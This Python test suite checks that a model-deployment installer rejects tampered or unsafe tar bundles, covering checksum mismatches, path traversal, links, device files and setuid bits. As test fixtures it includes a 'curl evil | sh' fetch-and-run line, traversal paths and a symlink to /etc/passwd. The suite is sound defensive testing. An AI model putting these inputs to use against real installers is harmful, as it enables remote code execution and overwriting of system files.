"""`edgecnn deploy install` refuses tampered and unsafe bundles, and leaves no trace (nor a broken app) when it does."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from edgecnn.deploy.bundle import BundleOptions, create_bundle
from edgecnn.deploy.install import check_members, install_bundle
from edgecnn.errors import ArtifactError, UserInputError


@pytest.fixture
def bundle(tmp_path, tiny_onnx) -> Path:
    out = tmp_path / "app.tar.gz"
    create_bundle(tiny_onnx, out, BundleOptions())
    return out


def repack(src: Path, dst: Path, change=None, extra: list[tuple[tarfile.TarInfo, bytes | None]] = ()) -> Path:
    """Copy bundle `src` to `dst`; `change(name, data) -> data | None` edits (None drops) a member; `extra` adds."""
    with tarfile.open(src) as tin, tarfile.open(dst, "w:gz") as tout:
        for m in tin.getmembers():
            data = tin.extractfile(m).read() if m.isfile() else None
            if change is not None:
                data = change(m.name, data)
                if data is None:
                    continue
            info = tarfile.TarInfo(m.name)
            info.size, info.mode = len(data), m.mode
            tout.addfile(info, io.BytesIO(data))
        for info, data in extra:
            tout.addfile(info, io.BytesIO(data) if data is not None else None)
    return dst


def member(name: str, kind=tarfile.REGTYPE, data: bytes = b"x", link: str = "") -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data if kind == tarfile.REGTYPE else None


def assert_refused(bundle: Path, prefix: Path, match: str, exc=ArtifactError):
    with pytest.raises(exc, match=match):
        install_bundle(bundle, prefix, build_engine=False)
    leftovers = sorted(p.name for p in prefix.iterdir()) if prefix.exists() else []
    assert leftovers in ([], ["tiny"]), f"staging left behind: {leftovers}"


def test_tampered_file_is_refused(bundle, tmp_path):
    bad = repack(bundle, tmp_path / "bad.tar.gz",
                 lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
    assert_refused(bad, tmp_path / "prefix", r"model\.onnx does not match its SHA256SUMS entry: .*tampered")


def test_tampered_start_script_is_refused(bundle, tmp_path):
    bad = repack(bundle, tmp_path / "bad.tar.gz",
                 lambda n, d: d.replace(b"set -euo pipefail", b"curl evil | sh") if n == "tiny/start.sh" else d)
    assert_refused(bad, tmp_path / "prefix", r"start\.sh does not match")


def test_unlisted_and_missing_files_are_refused(bundle, tmp_path):
    extra = repack(bundle, tmp_path / "extra.tar.gz", extra=[member("tiny/lib/edgecnn/sitecustomize.py", data=b"import os")])
    assert_refused(extra, tmp_path / "p1", r"sitecustomize\.py is not in SHA256SUMS")
    missing = repack(bundle, tmp_path / "missing.tar.gz", lambda n, d: None if n == "tiny/labels.txt" else d)
    assert_refused(missing, tmp_path / "p2", r"labels\.txt listed in SHA256SUMS is missing")
    nosums = repack(bundle, tmp_path / "nosums.tar.gz", lambda n, d: None if n == "tiny/SHA256SUMS" else d)
    assert_refused(nosums, tmp_path / "p3", "no SHA256SUMS")


@pytest.mark.parametrize(
    "name,kind,link,match",
    [
        ("/etc/cron.d/evil", tarfile.REGTYPE, "", "absolute"),
        ("tiny/../../evil.sh", tarfile.REGTYPE, "", r"'\.\.'"),
        ("tiny/lib/../../../evil.sh", tarfile.REGTYPE, "", r"'\.\.'"),
        ("tiny/passwd", tarfile.SYMTYPE, "/etc/passwd", "is a link"),
        ("tiny/up", tarfile.SYMTYPE, "../../..", "is a link"),
        ("tiny/hard", tarfile.LNKTYPE, "tiny/start.sh", "is a link"),
        ("tiny/sda", tarfile.BLKTYPE, "", "device"),
        ("tiny/null", tarfile.CHRTYPE, "", "device"),
        ("tiny/fifo", tarfile.FIFOTYPE, "", "device, FIFO"),
        ("other/file", tarfile.REGTYPE, "", "one folder"),
    ],
)
def test_unsafe_members_are_refused_before_anything_is_written(bundle, tmp_path, name, kind, link, match):
    bad = repack(bundle, tmp_path / "bad.tar.gz", extra=[member(name, kind, link=link)])
    prefix = tmp_path / "deep" / "er" / "prefix"
    assert_refused(bad, prefix, match)
    assert not prefix.exists(), "nothing is created when a member is unsafe"
    assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "deep" / "evil.sh").exists()


def test_check_members_accepts_a_real_bundle(bundle):
    with tarfile.open(bundle) as tar:
        assert check_members(tar.getmembers()) == "tiny"


def test_not_a_bundle(tmp_path):
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"not gzip at all")
    assert_refused(junk, tmp_path / "prefix", "not a gzip tar bundle")
    with pytest.raises(UserInputError, match="does not exist"):
        install_bundle(tmp_path / "missing.tar.gz", tmp_path / "prefix")


def test_truncated_bundle_is_refused(bundle, tmp_path):
    data = bundle.read_bytes()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(data[: len(data) // 2])
    assert_refused(cut, tmp_path / "prefix", "truncated or corrupt|not a gzip")


def test_archive_sha256_sidecar(bundle, tmp_path):
    side = bundle.with_name(bundle.name + ".sha256")
    side.write_text("0" * 64 + "  app.tar.gz\n")
    assert_refused(bundle, tmp_path / "prefix", "changed or damaged in transit")
    from edgecnn.artifacts import sha256_file

    side.write_text(sha256_file(bundle) + "  app.tar.gz\n")
    assert install_bundle(bundle, tmp_path / "prefix", build_engine=False).archive_checked


def test_failed_update_keeps_the_previous_install(bundle, tmp_path):
    prefix = tmp_path / "prefix"
    good = install_bundle(bundle, prefix, build_engine=False)
    before = (Path(good.app_dir) / "model.onnx").read_bytes()
    bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d[::-1] if n == "tiny/model.onnx" else d)
    assert_refused(bad, prefix, "tampered")
    assert (Path(good.app_dir) / "model.onnx").read_bytes() == before
    assert sorted(p.name for p in prefix.iterdir()) == ["tiny"]


def test_modes_are_sanitised(bundle, tmp_path):
    """setuid/setgid/world-writable bits in a bundle never reach the disk."""
    with tarfile.open(bundle) as tin, tarfile.open(tmp_path / "suid2.tar.gz", "w:gz") as tout:
        for m in tin.getmembers():
            m.mode = 0o6777 if m.name.endswith("start.sh") else m.mode
            tout.addfile(m, tin.extractfile(m))
    report = install_bundle(tmp_path / "suid2.tar.gz", tmp_path / "prefix", build_engine=False)
    assert (Path(report.app_dir) / "start.sh").stat().st_mode & 0o7777 == 0o755
    assert (Path(report.app_dir) / "model.onnx").stat().st_mode & 0o7777 == 0o644


def test_corrupted_gzip_stream_is_refused(bundle, tmp_path):
    data = bytearray(bundle.read_bytes())
    for i in range(len(data) // 2, len(data) // 2 + 64):
        data[i] ^= 0xFF
    bad = tmp_path / "flipped.tar.gz"
    bad.write_bytes(bytes(data))
    assert_refused(bad, tmp_path / "prefix", "truncated or corrupt|not a gzip|SHA256SUMS|unsafe|link|device|folder")
